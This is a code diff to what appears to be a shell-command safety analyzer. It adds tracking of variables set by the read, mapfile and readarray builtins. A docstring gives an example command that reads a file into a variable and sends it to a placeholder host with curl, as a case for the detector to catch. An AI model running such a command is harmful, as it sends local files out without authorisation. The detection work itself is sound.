@@ -45,6 +45,31 @@ def _no_effect(run: _Run) -> None:
     """A builtin that changes only the shell's own state (variables, options, jobs, completion)."""
 
 
+#: the letters of read/mapfile options that take a value (the other words name variables)
+_READ_VALUED = {"read": "adinNptu", "mapfile": "dnOsuCc", "readarray": "dnOsuCc"}
+
+
+def _reads(run: _Run) -> None:
+    """``read NAME``, ``mapfile NAME``: the variable holds what the command read, like an assignment
+    (``read d < f; curl "http://h/$d"`` sends the file: shell/rules/net.py)."""
+    args = run.args
+    names: list[str] = []
+    k = 0
+    while k < len(args):
+        t = args[k].text
+        k += 1
+        if not (t.startswith("-") and len(t) > 1):
+            names.append(t)
+            continue
+        letter = next((c for c in t[1:] if c in _READ_VALUED[run.name]), "")
+        if letter and t.endswith(letter) and k < len(args):
+            if letter == "a":
+                names.append(args[k].text)  # read -a ARRAY
+            k += 1
+    names = names or (["REPLY"] if run.name == "read" else ["MAPFILE"])
+    run.wk.assigned.update(n.split("[", 1)[0] for n in names)
+
+
 def _history(run: _Run) -> None:
     if any(a.text in ("-c", "-d", "-w", "-a") for a in run.args):
         run.flag("mutating", "history -c/-d clears history")
@@ -66,4 +91,5 @@ continue shift getopts ulimit caller complete bind enable disown bg fg mapfile r
 RULES: dict[str, Callable[[_Run], None]] = {
     "cd": _cd, "pushd": _cd, "popd": _cd, "trap": _trap, "history": _history, "alias": _alias, "hash": _hash,
     **dict.fromkeys(_NO_EFFECT, _no_effect),
+    "read": _reads, "mapfile": _reads, "readarray": _reads,
 }
